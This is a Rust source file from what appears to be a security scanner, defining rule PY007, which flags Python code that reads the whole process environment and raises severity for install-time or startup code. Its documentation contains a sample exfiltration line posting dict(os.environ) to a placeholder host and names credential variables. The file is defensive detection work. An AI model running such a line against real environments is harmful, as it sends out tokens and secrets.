//! PY007 environment-harvest.

use crate::context::{CodeFile, Cx};
use assay_core::{Capability, ExecutionContext, Finding, Severity};
use assay_lang::EventKind;

declare_rule! {
    /// ## What it does
    /// Flags code that reads the whole process environment as data — `dict(os.environ)`,
    /// `os.environ.copy()`/`.items()`, `json.dumps(os.environ)`, `os.environ` passed to
    /// any call other than as a child process's `env=`.
    ///
    /// ## Why it matters
    /// CI and developer environments hold tokens (`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`,
    /// `PYPI_TOKEN`…). Taking all of them at once, rather than reading one named setting,
    /// is how credential stealers collect them before sending them out.
    ///
    /// ## Example
    /// ```python
    /// requests.post("https://example.invalid", json=dict(os.environ))
    /// ```
    ///
    /// ## False positives
    /// Copying the environment to tweak it for a subprocess is common: alone this is low
    /// severity, and it matters mainly together with a network sink (see
    /// `exfiltration-flow`).
    ///
    /// ## References
    /// - MITRE ATT&CK T1082 (System Information Discovery), T1552 (Unsecured Credentials)
    pub static META = EnvironmentHarvest;
}

/// Check env-harvest events.
pub fn check_file(cx: &Cx, f: &CodeFile, out: &mut Vec<Finding>) {
    if f.is_test_or_doc() {
        return;
    }
    for e in f
        .analysis
        .events
        .iter()
        .filter(|e| e.kind == EventKind::EnvHarvest)
    {
        let sev = match e.context {
            ExecutionContext::Startup | ExecutionContext::InstallTime => Severity::Medium,
            _ => Severity::Low,
        };
        let mut x = cx.event_finding(
            &META,
            f,
            e,
            sev,
            format!("whole environment read: {}", e.snippet),
        );
        x.capabilities = vec![Capability::Env];
        out.push(x);
    }
}
